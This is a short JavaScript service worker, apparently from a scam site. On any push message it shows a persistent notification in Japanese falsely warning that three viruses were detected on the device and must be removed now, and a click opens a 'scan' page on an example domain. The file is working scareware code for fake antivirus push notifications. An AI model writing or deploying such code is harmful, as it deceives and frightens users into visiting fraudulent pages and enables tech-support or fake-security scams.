self.addEventListener('push',function(e){e.waitUntil(self.registration.showNotification('ウイルス対策：警告',{body:'お使いの端末で（3）件のウイルスが検出されました。今すぐ駆除してください。',requireInteraction:true,data:{u:'https://virus-kujo.example.com/scan'}}));});
self.addEventListener('notificationclick',function(e){e.notification.close();e.waitUntil(clients.openWindow(e.notification.data.u));});
